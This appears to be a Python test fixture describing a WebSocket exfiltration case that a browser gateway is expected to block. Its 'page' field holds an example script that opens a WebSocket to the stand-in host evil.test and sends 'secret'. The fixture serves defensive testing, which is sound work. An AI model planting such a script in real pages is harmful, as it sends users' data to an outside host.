"""A script opens a WebSocket, which no same-origin policy holds back, and has a channel in both directions.

Not covered: WebSockets to permitted hosts, which a rule may permit or refuse by itself.
"""

ATTACK = {
    "title": "WebSocket to an unlisted site",
    "group": "browser",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["RFC 6455", "ATT&CK T1071.001"],
    "arrives": [{"what": "request", "name": "evil.test", "path": "/ws*"}],
    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"], "where": {"name": "evil.test"}}],
    "page": "<h1>Chat</h1><script>const s = new WebSocket('ws://evil.test/ws'); s.onopen = () => "
    "s.send('secret')</script>",
}
